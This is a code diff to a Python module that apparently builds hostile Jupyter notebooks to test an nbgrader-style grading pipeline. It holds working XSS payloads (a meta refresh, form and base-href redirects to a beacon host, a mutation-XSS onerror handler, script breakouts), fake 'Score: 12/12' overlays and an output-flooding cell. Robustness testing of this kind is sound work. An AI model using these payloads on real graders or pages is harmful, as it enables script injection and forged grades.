@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import copy
 
 import nbformat
 from nbformat import NotebookNode
@@ -30,7 +31,7 @@ def payloads(beacon: str) -> list[str]:
         f'<meta http-equiv="refresh" content="0;url={beacon}/refresh">',
         f'<base href="{beacon}/"><form action="{beacon}/form"><button>Score: 12/12</button></form>',
         f'<object data="data:text/html;base64,{coded}"></object><embed src="{beacon}/embed">',
-        f"<math><mtext></mtext><mglyph><style><!--</style><img src onerror={run}>--></mglyph></math>",
+        f"<math><mglyph><style><!--</style><img src onerror={run}>--></mglyph></math>",
         '<div style="position:fixed;inset:0;background:white">Score: 12 / 12</div>',
         '<span class="pull-right score">Score: 12.0 / 12.0</span><a name="top" id="toc">x</a>',
         f"</textarea></pre></title><script>{run}</script>",
@@ -70,7 +71,7 @@ def hostile(released: NotebookNode, beacon: str) -> NotebookNode:
         "Shown()\n"
     )
     huge = "for i in range(20_000): print('x' * 500)\nraise ValueError(html)\n"
-    notebook: NotebookNode = nbformat.from_dict(nbformat.v4.nbformat.from_dict(released))
+    notebook: NotebookNode = copy.deepcopy(released)
     for cell in notebook.cells:
         role = cell.metadata.get("nbgrader", {})
         if cell.cell_type == "markdown" and role.get("solution"):
